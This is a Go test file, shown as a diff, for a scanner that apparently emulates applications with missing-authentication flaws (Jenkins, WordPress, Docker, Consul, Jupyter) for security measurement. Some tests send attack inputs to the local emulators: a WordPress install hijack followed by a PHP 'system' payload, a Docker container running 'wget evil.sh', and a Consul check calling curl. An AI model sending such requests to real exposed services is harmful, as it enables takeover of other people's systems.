@@ -1,0 +1,300 @@
+package apps
+
+import (
+	"net/http/httptest"
+	"net/netip"
+	"net/url"
+	"strings"
+	"testing"
+	"time"
+
+	"mavscan/internal/mav"
+)
+
+func get(t *testing.T, inst *Instance, path string) *httptest.ResponseRecorder {
+	t.Helper()
+	req := httptest.NewRequest("GET", path, nil)
+	req.RemoteAddr = "198.51.100.7:40000"
+	rec := httptest.NewRecorder()
+	inst.Handler().ServeHTTP(rec, req)
+	return rec
+}
+
+func postForm(t *testing.T, inst *Instance, path, form string) *httptest.ResponseRecorder {
+	t.Helper()
+	req := httptest.NewRequest("POST", path, strings.NewReader(form))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	req.RemoteAddr = "198.51.100.7:40000"
+	rec := httptest.NewRecorder()
+	inst.Handler().ServeHTTP(rec, req)
+	return rec
+}
+
+func postJSON(t *testing.T, inst *Instance, path, body string) *httptest.ResponseRecorder {
+	t.Helper()
+	req := httptest.NewRequest("POST", path, strings.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	req.RemoteAddr = "198.51.100.7:40000"
+	rec := httptest.NewRecorder()
+	inst.Handler().ServeHTTP(rec, req)
+	return rec
+}
+
+// TestEveryCatalogAppBuilds proves each of the 25 applications has an
+// emulator and serves a landing page.
+func TestEveryCatalogAppBuilds(t *testing.T) {
+	for _, info := range mav.Catalog() {
+		inst, err := New(Config{App: info.App})
+		if err != nil {
+			t.Fatalf("New(%s): %v", info.App, err)
+		}
+		rec := get(t, inst, "/")
+		if rec.Code >= 500 {
+			t.Errorf("%s: landing page status %d", info.App, rec.Code)
+		}
+	}
+}
+
+func TestVulnerableGroundTruthMatchesTable1(t *testing.T) {
+	// Default-configuration instances at the latest release: only the
+	// insecure-by-default products should be vulnerable.
+	for _, info := range mav.InScopeApps() {
+		cfg := Config{App: info.App}
+		cfg.AuthRequired = !InsecureDefault(info.App, LatestVersion(info.App))
+		// CMS products are vulnerable only pre-install; model a default
+		// (freshly extracted) deployment as not yet installed.
+		cfg.Installed = false
+		if info.App == mav.Consul {
+			// Consul's default has script checks disabled.
+			cfg.Options = map[string]bool{}
+		}
+		inst, err := New(cfg)
+		if err != nil {
+			t.Fatalf("New(%s): %v", info.App, err)
+		}
+		wantVuln := info.Default == mav.InsecureByDefault
+		if info.App == mav.Polynote {
+			wantVuln = true
+		}
+		// Secure-by-default products with per-option MAVs are secure here.
+		if got := inst.Vulnerable(); got != wantVuln {
+			t.Errorf("%s: Vulnerable() = %v, want %v (default %s)", info.App, got, wantVuln, info.Default)
+		}
+	}
+}
+
+func TestJenkinsDetectionSurface(t *testing.T) {
+	vuln, _ := New(Config{App: mav.Jenkins, AuthRequired: false})
+	rec := get(t, vuln, "/view/all/newJob")
+	if rec.Code != 200 || !strings.Contains(rec.Body.String(), `form id="createItem"`) {
+		t.Fatalf("vulnerable Jenkins: got %d %q", rec.Code, rec.Body.String())
+	}
+	sec, _ := New(Config{App: mav.Jenkins, AuthRequired: true})
+	rec = get(t, sec, "/view/all/newJob")
+	if rec.Code == 200 && strings.Contains(rec.Body.String(), "createItem") {
+		t.Fatal("secure Jenkins leaked the createItem form")
+	}
+	if rec.Header().Get("X-Jenkins") == "" {
+		t.Error("Jenkins did not stamp X-Jenkins version header")
+	}
+}
+
+func TestWordPressInstallHijack(t *testing.T) {
+	var execs []string
+	sink := ExecFunc(func(_ time.Time, src netip.Addr, app mav.App, via, cmd string) {
+		execs = append(execs, via+":"+cmd)
+	})
+	inst, _ := New(Config{App: mav.WordPress, Installed: false, Exec: sink})
+	if !inst.Vulnerable() {
+		t.Fatal("uninstalled WordPress should be vulnerable")
+	}
+	rec := get(t, inst, "/wp-admin/install.php?step=1")
+	body := rec.Body.String()
+	if !strings.Contains(body, `form id="setup"`) || !strings.Contains(body, `id="pass1"`) {
+		t.Fatalf("install page missing setup form: %q", body)
+	}
+	// Attacker completes the installation with their own password.
+	rec = postForm(t, inst, "/wp-admin/install.php?step=2", "weblog_title=x&user_name=admin&admin_password=pwned")
+	if rec.Code != 200 {
+		t.Fatalf("install completion failed: %d", rec.Code)
+	}
+	if inst.Vulnerable() {
+		t.Fatal("installed WordPress should no longer be vulnerable")
+	}
+	if inst.InstalledBy() == "" {
+		t.Fatal("hijacked install should record the installer")
+	}
+	// Installation is exploitable exactly once.
+	if inst.CompleteInstall("second", "x") {
+		t.Fatal("second CompleteInstall must fail")
+	}
+	// With the stolen admin password, template editing executes code.
+	form := url.Values{"password": {"pwned"}, "newcontent": {"<?php system('id'); ?>"}}
+	rec = postForm(t, inst, "/wp-admin/theme-editor.php", form.Encode())
+	if rec.Code != 200 {
+		t.Fatalf("theme editor rejected valid password: %d", rec.Code)
+	}
+	if len(execs) != 1 || !strings.HasPrefix(execs[0], "theme-editor:") {
+		t.Fatalf("exec not recorded: %v", execs)
+	}
+	// Wrong password must be rejected.
+	rec = postForm(t, inst, "/wp-admin/theme-editor.php", url.Values{"password": {"wrong"}, "newcontent": {"x"}}.Encode())
+	if rec.Code != 403 {
+		t.Fatalf("theme editor accepted wrong password: %d", rec.Code)
+	}
+}
+
+func TestDockerSurface(t *testing.T) {
+	var cmds []string
+	sink := ExecFunc(func(_ time.Time, _ netip.Addr, _ mav.App, via, cmd string) { cmds = append(cmds, cmd) })
+	inst, _ := New(Config{App: mav.Docker, Exec: sink})
+	rec := get(t, inst, "/")
+	if rec.Code != 404 || !strings.Contains(rec.Body.String(), `"message":"page not found"`) {
+		t.Fatalf("docker / should 404 with JSON: %d %q", rec.Code, rec.Body.String())
+	}
+	rec = get(t, inst, "/version")
+	low := strings.ToLower(rec.Body.String())
+	if !strings.Contains(low, "minapiversion") || !strings.Contains(low, "kernelversion") {
+		t.Fatalf("docker /version missing markers: %q", rec.Body.String())
+	}
+	rec = postJSON(t, inst, "/containers/create", `{"Image":"alpine","Cmd":["sh","-c","wget evil.sh"]}`)
+	if rec.Code != 201 {
+		t.Fatalf("container create: %d %s", rec.Code, rec.Body.String())
+	}
+	if len(cmds) != 1 || cmds[0] != "sh -c wget evil.sh" {
+		t.Fatalf("exec not recorded: %v", cmds)
+	}
+	// A TLS-authenticated daemon denies everything.
+	secure, _ := New(Config{App: mav.Docker, AuthRequired: true})
+	if rec := get(t, secure, "/version"); rec.Code != 403 {
+		t.Fatalf("authenticated docker should deny /version: %d", rec.Code)
+	}
+}
+
+func TestConsulScriptChecksGateExecution(t *testing.T) {
+	var n int
+	sink := ExecFunc(func(_ time.Time, _ netip.Addr, _ mav.App, _, _ string) { n++ })
+	off, _ := New(Config{App: mav.Consul, Exec: sink})
+	req := httptest.NewRequest("PUT", "/v1/agent/check/register", strings.NewReader(`{"Name":"x","Args":["curl","evil"]}`))
+	req.RemoteAddr = "198.51.100.7:1"
+	rec := httptest.NewRecorder()
+	off.Handler().ServeHTTP(rec, req)
+	if rec.Code != 400 || n != 0 {
+		t.Fatalf("script checks disabled must refuse: %d n=%d", rec.Code, n)
+	}
+	on, _ := New(Config{App: mav.Consul, Options: map[string]bool{"enableScriptChecks": true}, Exec: sink})
+	req = httptest.NewRequest("PUT", "/v1/agent/check/register", strings.NewReader(`{"Name":"x","Args":["curl","evil"]}`))
+	req.RemoteAddr = "198.51.100.7:1"
+	rec = httptest.NewRecorder()
+	on.Handler().ServeHTTP(rec, req)
+	if rec.Code != 200 || n != 1 {
+		t.Fatalf("script checks enabled must execute: %d n=%d", rec.Code, n)
+	}
+	if !on.Vulnerable() || off.Vulnerable() {
+		t.Fatal("Vulnerable() does not track script-check options")
+	}
+}
+
+func TestHadoopSurface(t *testing.T) {
+	inst, _ := New(Config{App: mav.Hadoop})
+	rec := get(t, inst, "/cluster/cluster")
+	low := strings.ToLower(rec.Body.String())
+	for _, marker := range []string{"hadoop", "resourcemanager", "logged in as: dr.who"} {
+		if !strings.Contains(low, marker) {
+			t.Errorf("hadoop cluster page missing %q", marker)
+		}
+	}
+	rec = get(t, inst, "/ws/v1/cluster/apps/new-application")
+	if !strings.Contains(rec.Body.String(), "application-id") {
+		t.Fatalf("new-application missing id: %q", rec.Body.String())
+	}
+}
+
+func TestJupyterBrandsDiffer(t *testing.T) {
+	lab, _ := New(Config{App: mav.JupyterLab})
+	nb, _ := New(Config{App: mav.JupyterNotebook})
+	labBody := get(t, lab, "/api/terminals").Body.String()
+	nbBody := get(t, nb, "/api/terminals").Body.String()
+	if !strings.Contains(labBody, "JupyterLab") || strings.Contains(labBody, "Jupyter Notebook") {
+		t.Errorf("lab terminals body wrong: %q", labBody)
+	}
+	if !strings.Contains(nbBody, "Jupyter Notebook") || strings.Contains(nbBody, "JupyterLab") {
+		t.Errorf("notebook terminals body wrong: %q", nbBody)
+	}
+	secure, _ := New(Config{App: mav.JupyterLab, AuthRequired: true})
+	if rec := get(t, secure, "/api/terminals"); rec.Code != 403 {
+		t.Fatalf("secured terminals endpoint must 403, got %d", rec.Code)
+	}
+}
+
+func TestSnapshotRestore(t *testing.T) {
+	inst, _ := New(Config{App: mav.WordPress, Installed: false})
+	snap := inst.Snapshot()
+	if !inst.CompleteInstall("attacker", "x") {
+		t.Fatal("install should succeed")
+	}
+	if inst.Vulnerable() {
+		t.Fatal("installed instance is not vulnerable")
+	}
+	inst.Restore(snap)
+	if !inst.Vulnerable() {
+		t.Fatal("restore must re-arm the trust-on-first-use MAV")
+	}
+	if inst.InstalledBy() != "" {
+		t.Fatal("restore must clear installer identity")
+	}
+}
+
+func TestInsecureDefaultCutovers(t *testing.T) {
+	cases := []struct {
+		app     mav.App
+		version string
+		want    bool
+	}{
+		{mav.Jenkins, "1.651", true},
+		{mav.Jenkins, "2.0", false},
+		{mav.Jenkins, "2.289", false},
+		{mav.JupyterNotebook, "4.2.0", true},
+		{mav.JupyterNotebook, "4.3.0", false},
+		{mav.Joomla, "3.7.0", true},
+		{mav.Joomla, "3.7.4", false},
+		{mav.Adminer, "4.6.0", true},
+		{mav.Adminer, "4.6.3", false},
+		{mav.Hadoop, "3.3.1", true},      // never changed defaults
+		{mav.Kubernetes, "1.5.0", false}, // always secure by default
+		{mav.Polynote, "0.4.0", true},
+	}
+	for _, c := range cases {
+		if got := InsecureDefault(c.app, c.version); got != c.want {
+			t.Errorf("InsecureDefault(%s, %s) = %v, want %v", c.app, c.version, got, c.want)
+		}
+	}
+}
+
+func TestReleaseTimelinesAscending(t *testing.T) {
+	for _, info := range mav.Catalog() {
+		tl := Timeline(info.App)
+		if len(tl) == 0 {
+			t.Errorf("%s: empty timeline", info.App)
+			continue
+		}
+		for i := 1; i < len(tl); i++ {
+			if !tl[i-1].Date.Before(tl[i].Date) {
+				t.Errorf("%s: timeline not ascending at %s", info.App, tl[i].Version)
+			}
+		}
+	}
+}
+
+func TestAssetContentVersionSensitivity(t *testing.T) {
+	a1 := AssetBody(mav.Grav, "1.6.0", "/system/assets/grav.css")
+	a2 := AssetBody(mav.Grav, "1.7.14", "/system/assets/grav.css")
+	if string(a1) == string(a2) {
+		t.Fatal("versioned asset content must differ between releases")
+	}
+	s1 := AssetBody(mav.Grav, "1.6.0", "/static/logo.css")
+	s2 := AssetBody(mav.Grav, "1.7.14", "/static/logo.css")
+	if string(s1) != string(s2) {
+		t.Fatal("stable asset content must match across releases")
+	}
+}
